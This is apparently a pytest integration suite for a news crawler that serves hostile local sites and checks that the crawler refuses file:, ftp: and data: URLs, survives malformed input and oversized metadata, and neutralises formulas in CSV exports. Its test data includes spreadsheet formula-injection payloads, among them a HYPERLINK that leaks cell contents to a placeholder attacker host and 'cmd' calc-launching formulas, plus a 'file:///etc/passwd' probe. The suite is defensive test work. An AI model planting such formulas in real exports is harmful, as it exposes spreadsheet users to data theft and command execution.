"""A hostile web: the real `newscrawl crawl` against local sites that attack the crawler.

Each test serves a small site on 127.0.0.1 (good articles plus the hostile
pages) and crawls it on SQLite and on PostgreSQL. The crawl must refuse or
survive the attack, record what it refused, and store the good articles.
"""
from __future__ import annotations

import contextlib
import json
import re

import pytest

from crawler.ops.sampleserver import serve_sample_sites
from tests.badsite import SiteBuilder, article_html, consistency_problems, crawl, last_run, paragraphs, stored_articles

pytestmark = pytest.mark.integration

SLUG = "hostile"
GOOD = {
    "/news/2025/03/01/harbour-reopens-after-storm-repairs/": ("Harbour reopens after storm repairs", 1),
    "/news/2025/03/02/council-approves-new-railway-budget/": ("Council approves new railway budget", 2),
}


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def db_url(request, tmp_path):
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'test.db'}"
    return request.getfixturevalue("pg_url")


@pytest.fixture
def site(tmp_path) -> SiteBuilder:
    builder = SiteBuilder(tmp_path / "sites", SLUG)
    for path, (title, seed) in GOOD.items():
        builder.article(path, title, seed)
    return builder


@contextlib.contextmanager
def serving(builder: SiteBuilder):
    builder.write()
    with serve_sample_sites(root=builder.root) as sites:
        yield sites


def crawl_ok(sites, db_url: str, *urls: str, settings: tuple[str, ...] = ()):
    """Crawl; check that the good articles are stored, nothing is half-written, no traceback."""
    result = crawl(db_url, *(urls or (sites[SLUG].url("/"),)), settings=settings)
    output = result.stdout + result.stderr
    assert result.returncode == 0, output[-3000:]
    assert "Traceback" not in output and "Spider error" not in output, output[-3000:]
    stored = stored_articles(db_url)
    for path, (title, _) in GOOD.items():
        assert sites[SLUG].url(path) in stored, f"good article {path} not stored\n{output[-3000:]}"
    assert consistency_problems(db_url) == []
    run = last_run(db_url)
    assert run.status == "finished", (run.status, run.errors)
    return result, run, stored


def feed(items: list[str]) -> bytes:
    entries = "".join(f"<item><title>Item {n}</title><link>{url}</link></item>" for n, url in enumerate(items))
    return (f'<?xml version="1.0"?><rss version="2.0"><channel><title>Hostile</title>'
            f"<link>http://example.invalid/</link>{entries}</channel></rss>").encode()


def sitemap(urls: list[str]) -> bytes:
    entries = "".join(f"<url><loc>{url}</loc></url>" for url in urls)
    return f'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{entries}</urlset>'.encode()


def xml_route(body: bytes, content_type: str = "application/xml"):
    return lambda request: (200, {"Content-Type": content_type}, body)


# 1: schemes ---------------------------------------------------------------------

def test_only_http_and_https_are_fetched(site, db_url, tmp_path):
    """file:, ftp: and data: URLs from links, feeds, sitemaps, canonicals and meta refreshes
    are refused and recorded; a local file never becomes an article."""
    secret_words = "Confidential local file that must never leave this machine"
    for name in ("link", "feed", "sitemap", "robots", "canonical", "refresh", "redirect"):  # distinct URLs, none a duplicate
        secret = tmp_path / f"local-secret-{name}.html"
        secret.write_text(article_html(f"Local file posing as an article ({name})",
                                       [secret_words + " " + p for p in paragraphs(9)]), encoding="utf-8")
    secret = tmp_path / "local-secret-link.html"
    canonical_page = "/news/2025/03/03/page-with-a-file-canonical/"
    refresh_page = "/news/2025/03/04/page-refreshing-to-a-file/"
    redirect_page = "/news/2025/03/05/page-redirecting-to-a-file/"
    site.link(canonical_page, refresh_page, redirect_page)
    with serving(site) as sites:
        base = sites[SLUG].base_url
        file_url = "file://" + base.split("://", 1)[1] + str(secret)  # same host and port as the site
        routes = sites.routes
        local = {name: file_url.replace("link", name) for name in ("feed", "sitemap", "robots", "canonical", "refresh",
                                                                       "redirect")}
        home = ('<html><head><title>Home</title></head><body><ul>'
                + "".join(f'<li><a href="{p}">Story {n}</a></li>' for n, p in enumerate(site.links))
                + f'<li><a href="{file_url}">Local</a></li><li><a href="ftp://{base.split("://")[1]}/x">FTP</a></li>'
                  f'<li><a href="file://{secret}">Local 2</a></li></ul></body></html>')
        routes[(SLUG, "/")] = lambda request: (200, {"Content-Type": "text/html"}, home.encode())
        routes[(SLUG, "/feed.xml")] = xml_route(feed([local["feed"], base + "/news/"]), "application/rss+xml")
        routes[(SLUG, "/sitemap.xml")] = xml_route(sitemap([local["sitemap"], "data:text/html,hello"]))
        routes[(SLUG, "/robots.txt")] = lambda request: (200, {"Content-Type": "text/plain"},
                                                          f"Sitemap: {local['robots']}\n".encode())
        canonical_html = article_html("A page whose canonical is a local file", paragraphs(7),
                                      head_extra='<link rel="canonical" href="%s">' % local["canonical"])
        routes[(SLUG, canonical_page)] = lambda request: (200, {"Content-Type": "text/html"}, canonical_html.encode())
        refresh_html = '<html><head><meta http-equiv="refresh" content="0; url=%s"></head><body></body></html>' % local["refresh"]
        routes[(SLUG, refresh_page)] = lambda request: (200, {"Content-Type": "text/html"}, refresh_html.encode())
        routes[(SLUG, redirect_page)] = lambda request: (302, {"Location": local["redirect"]}, b"")
        result, run, stored = crawl_ok(sites, db_url, base + "/", base + "/feed.xml", base + "/sitemap.xml")
    assert not any(url.startswith("file:") for url in stored), list(stored)
    assert not any(secret_words in (a.text or "") for a in stored.values())
    # link, ftp link, feed entry, sitemap entry, robots sitemap, canonical, redirect: each one refused
    # (the ftp link is on the site's own host and port; data: has no host, so it is off-site;
    # Scrapy's meta refresh itself only follows http(s)).
    assert run.skips.get("bad_scheme", 0) == 7, run.skips
    assert not any(reason.startswith("http_3") for reason in run.skips), run.skips
    assert "bad_scheme=" in result.stdout


def test_start_url_with_another_scheme_is_a_usage_error(db_url):
    result = crawl(db_url, "file:///etc/passwd")
    assert result.returncode == 2, result.stdout + result.stderr
    assert "http(s)" in result.stderr and "Traceback" not in result.stderr


# 2: per-entry isolation -----------------------------------------------------------

BAD_URLS = ["http://127.0.0.1:99999/bad-port", "http://[::1/bad-ipv6", "http://host:notaport/x",
            "http://[fe80::1%zz]:80/scoped"]


def test_one_bad_entry_never_aborts_its_listing(site, db_url):
    late_feed = "/news/2025/03/05/listed-after-bad-feed-entries/"
    late_sitemap = "/news/2025/03/06/listed-after-bad-sitemap-entries/"
    site.article(late_feed, "Listed after bad feed entries", 5, linked=False)
    site.article(late_sitemap, "Listed after bad sitemap entries", 6, linked=False)
    bad_canonical = site.article("/news/2025/03/07/article-with-a-broken-canonical/", "Broken canonical kept", 8,
                                 head_extra='<link rel="canonical" href="http://[::1/broken">')
    long_path = "/news/" + "a" * 3000 + "/"
    site.link(*BAD_URLS, long_path)
    with serving(site) as sites:
        base = sites[SLUG].base_url
        sites.routes[(SLUG, "/feed.xml")] = xml_route(feed([*BAD_URLS, base + late_feed]), "application/rss+xml")
        sites.routes[(SLUG, "/sitemap.xml")] = xml_route(sitemap([*BAD_URLS, base + late_sitemap]))
        result, run, stored = crawl_ok(sites, db_url, base + "/", base + "/feed.xml", base + "/sitemap.xml")
        for path in (late_feed, late_sitemap, bad_canonical):
            assert sites[SLUG].url(path) in stored, (path, result.stdout)
    assert run.skips.get("bad_url", 0) >= 2 * len(BAD_URLS) - 2, run.skips  # feed and sitemap entries
    assert run.skips.get("url_too_long") == 1, run.skips


# 3: charsets ------------------------------------------------------------------------

HOSTILE_CHARSETS = ["zlib", "base64", "rot13", "idna", "punycode", "undefined", "bogus-charset", "utf-7"]


FRENCH_WORDS = ("été hôpital école élève fenêtre forêt château théâtre début côte île août goût mûr âge "
                "pâte tête bête fête rêve crème père mère frère très après déjà voilà où çà reçu garçon leçon "
                "façade français noël maïs naïf héros épée étoile étude économie écran église élection "
                "énergie époque équipe état événement évêque île").split()


def test_non_text_codecs_decode_like_a_browser(site, db_url):
    pages = {}
    for n, charset in enumerate(HOSTILE_CHARSETS):
        for k, where in enumerate(("header", "meta")):
            # Accented words only right if decoded right; each page's own (a shared one is site boilerplate).
            words = FRENCH_WORDS[2 * n + k::len(HOSTILE_CHARSETS) * 2]
            body = [f"Économie et société: {' '.join(words)}; le conseil régional a voté le budget après un "
                    f"long débat ({charset}, {where})."] + paragraphs(40 + 2 * n + k)
            path = f"/news/2025/05/{n + 1:02d}/charset-{charset}-in-{where}/"
            head = f'<meta charset="{charset}">' if where == "meta" else ""
            html = article_html(f"Déclaré {charset} ({where})", body, head_extra=head, lang="fr")
            content_type = f"text/html; charset={charset}" if where == "header" else "text/html"
            pages[path] = (html.encode("utf-8"), content_type, body[0])
            site.link(path)
    with serving(site) as sites:
        for path, (data, content_type, _) in pages.items():
            sites.routes[(SLUG, path)] = lambda request, d=data, c=content_type: (200, {"Content-Type": c}, d)
        result, run, stored = crawl_ok(sites, db_url)
        for path, (_, _, first) in pages.items():
            row = stored.get(sites[SLUG].url(path))
            assert row is not None, f"{path} not stored\n{result.stdout}"
            assert first in row.text, (path, row.text[:200])
    assert run.errors == {}


# 4: the store -------------------------------------------------------------------------

def test_store_accepts_what_the_web_sends(site, db_url):
    """NUL bytes, control characters, lone surrogates and huge metadata: stored, cleaned and
    capped the same on SQLite and PostgreSQL; the run says so."""
    ld_title = "Title with a NUL\u0000 and a lone surrogate \ud800 inside"
    cases = {
        "/news/2025/06/01/nul-in-title-and-json-ld/": dict(
            title="Bell\x00 rings\x07 twice", ld={"headline": ld_title, "author": [{"@type": "Person", "name": "Ann\x00 Lee"}]}),
        "/news/2025/06/02/huge-site-name-and-section/": dict(
            title="Huge site name", head='<meta property="og:site_name" content="{}"><meta property="article:section" content="{}">'
            .format("S" * 300, "Section " * 60)),
        "/news/2025/06/03/a-megabyte-title/": dict(title="Mega " * 200_000),
        "/news/2025/06/04/many-authors/": dict(
            title="Many authors", ld={"author": [{"@type": "Person", "name": f"Author {n} " + "x" * 400} for n in range(300)]}),
    }
    for n, (path, case) in enumerate(cases.items()):
        html = article_html(case["title"], paragraphs(60 + n), head_extra=case.get("head", ""))
        if "ld" in case:
            ld = {"@context": "https://schema.org", "@type": "NewsArticle", "datePublished": "2025-06-01T10:00:00+00:00",
                  **case["ld"]}
            html = re.sub(r'<script type="application/ld\+json">.*?</script>',
                          lambda m: f'<script type="application/ld+json">{json.dumps(ld)}</script>', html, flags=re.S)
        site.page(path, html.encode("utf-8"))
        site.link(path)
    with serving(site) as sites:
        base = sites[SLUG].base_url
        # Validators no column holds: a 600-character ETag, a 100-character Last-Modified.
        sites.routes[(SLUG, "/feed.xml")] = lambda request: (
            200, {"Content-Type": "application/rss+xml", "ETag": '"' + "e" * 600 + '"', "Last-Modified": "x" * 100},
            feed([base + path for path in cases]))
        result, run, stored = crawl_ok(sites, db_url, base + "/", base + "/feed.xml")
        rows = {path: stored.get(sites[SLUG].url(path)) for path in cases}
    assert all(rows.values()), (rows, result.stdout)
    for row in stored.values():
        for value in (row.title, row.site_name, row.section, row.text, *row.authors, *row.tags):
            assert value is None or not any(ch in value for ch in "\x00\x07\ud800"), (row.url, value[:80])
        assert row.title is None or len(row.title) <= 1000
        assert row.site_name is None or len(row.site_name) <= 255
        assert row.section is None or len(row.section) <= 255
        assert len(row.authors) <= 100 and all(len(a) <= 255 for a in row.authors)
    assert len(rows["/news/2025/06/03/a-megabyte-title/"].title) <= 1000
    assert "Limits hit" in result.stdout and "title=" in result.stdout, result.stdout
    assert any(entry.get("limit_title") == 1 and entry.get("limit_site_name") == 1 for entry in run.sites.values()), run.sites


def test_storage_errors_make_the_run_partial(sqlite_url):
    """An article lost to the database never leaves the run `finished`."""
    from scrapy.utils.test import get_crawler

    from crawler.extensions import CrawlRunRecorder
    from models.db import upgrade

    upgrade(sqlite_url)
    from crawler import settings as project_settings

    crawler = get_crawler(settings_dict={"DATABASE_URL": sqlite_url,
                                         "NEWSCRAWL_MAX_FAILURE_SHARE": project_settings.NEWSCRAWL_MAX_FAILURE_SHARE})
    crawler.stats.open_spider()
    recorder = CrawlRunRecorder(crawler)
    recorder.spider_opened(None)
    crawler.stats.set_value("downloader/response_count", 100)
    crawler.stats.set_value("newscrawl/articles/new", 21)
    crawler.stats.set_value("newscrawl/errors/storage", 4)  # 4 of 25 articles not stored
    recorder.spider_closed(None, "finished")
    assert last_run(sqlite_url).status == "partial"
    assert last_run(sqlite_url).errors == {"storage": 4}



def test_distributed_worker_judges_a_quiet_site_by_the_shared_store(sqlite_url):
    """A worker that read only a site's short pages, while a peer stored its articles,
    does not call the site broken; a site with no article stored by anyone still is."""
    import datetime as dt

    from scrapy.utils.test import get_crawler
    from sqlalchemy.orm import Session

    from crawler import settings as project_settings
    from crawler.extensions import CrawlRunRecorder
    from models import Article
    from models.db import make_engine, upgrade

    upgrade(sqlite_url)
    crawler = get_crawler(settings_dict={"DATABASE_URL": sqlite_url, "NEWSCRAWL_REDIS_URL": "redis://127.0.0.1:6379/0",
                                         "NEWSCRAWL_MAX_FAILURE_SHARE": project_settings.NEWSCRAWL_MAX_FAILURE_SHARE})
    crawler.stats.open_spider()
    recorder = CrawlRunRecorder(crawler)
    recorder.spider_opened(None)
    engine = make_engine(sqlite_url)
    with Session(engine) as session, session.begin():  # what the peer stored meanwhile
        session.add(Article(url="https://served.example/a", canonical_url="https://served.example/a",
                            site="served.example", text="Body.", content_hash="0" * 64, raw_html=b"x",
                            raw_encoding="utf-8", extractor_version="test",
                            fetched_at=dt.datetime.now(dt.timezone.utc)))
    engine.dispose()
    crawler.stats.set_value("downloader/response_count", 10)
    for site in ("served.example", "broken.example"):
        crawler.stats.set_value(f"newscrawl/site/{site}/too_little_text", 2)
    recorder.spider_closed(None, "finished")
    assert crawler.stats.get_value("newscrawl/site_problems") == {"broken.example": "no article text from 2 pages"}
    assert last_run(sqlite_url).status == "partial"


# 7: caps ----------------------------------------------------------------------------------

def test_caps_on_links_per_page_and_entries_per_listing(site, db_url):
    extra = [site.article(f"/news/2025/07/{n:02d}/linked-story-number-{n}/", f"Linked story {n}", 80 + n)
             for n in range(1, 6)]
    listed = [site.article(f"/news/2025/08/{n:02d}/listed-story-number-{n}/", f"Listed story {n}", 90 + n, linked=False)
              for n in range(1, 6)]
    with serving(site) as sites:
        base = sites[SLUG].base_url
        sites.routes[(SLUG, "/sitemap.xml")] = xml_route(sitemap([base + p for p in listed]))
        result = crawl(db_url, base + "/", base + "/sitemap.xml",
                       settings=("NEWSCRAWL_MAX_LINKS_PER_PAGE=4", "NEWSCRAWL_MAX_LISTING_ENTRIES=2"))
        assert result.returncode == 0, result.stdout + result.stderr
        stored = stored_articles(db_url)
    run = last_run(db_url)
    assert sum(base + p in stored for p in listed) == 2
    assert sum(base + p in stored for p in [*GOOD, *extra]) == 4
    assert run.skips.get("over_links_per_page") == 3 and run.skips.get("over_entries_per_listing") == 3, run.skips
    assert "links_per_page=1" in result.stdout and "entries_per_listing=1" in result.stdout, result.stdout
    site_entry = run.sites[sites[SLUG].url("/").split("://")[1].rstrip("/")]
    assert site_entry["limit_links_per_page"] == 1 and site_entry["limit_entries_per_listing"] == 1, run.sites


# 5: exports ---------------------------------------------------------------------------------

FORMULA_TITLES = ['=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"]


def test_csv_export_neutralises_formulas(site, db_url):
    import csv
    import io

    from tests.conftest import run_cli

    for n, title in enumerate(FORMULA_TITLES):
        site.article(f"/news/2025/09/{n + 1:02d}/formula-title-number-{n}/", title, 120 + n)
    with serving(site) as sites:
        crawl_ok(sites, db_url)
    safe = run_cli("export", "--db", db_url, "--format", "csv")
    raw = run_cli("export", "--db", db_url, "--format", "csv", "--raw")
    assert safe.returncode == 0 and raw.returncode == 0, safe.stderr + raw.stderr
    safe_rows = list(csv.DictReader(io.StringIO(safe.stdout)))
    raw_rows = list(csv.DictReader(io.StringIO(raw.stdout)))
    assert len(safe_rows) == len(raw_rows) == len(GOOD) + len(FORMULA_TITLES)
    for row in safe_rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    safe_titles = {row["title"] for row in safe_rows}
    raw_titles = {row["title"] for row in raw_rows}
    for title in FORMULA_TITLES:
        assert "'" + title in safe_titles, (title, safe_titles)
        assert title in raw_titles  # --raw: the bytes as stored
    assert {row["id"] for row in safe_rows} == {row["id"] for row in raw_rows}


def test_neutralise_cell_follows_owasp():
    from crawler.ops.export import neutralise_cell

    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise_cell(trigger + "1+1") == "'" + trigger + "1+1"
    assert neutralise_cell("Plain title") == "Plain title"
    assert neutralise_cell(-0.5) == -0.5 and neutralise_cell(None) is None
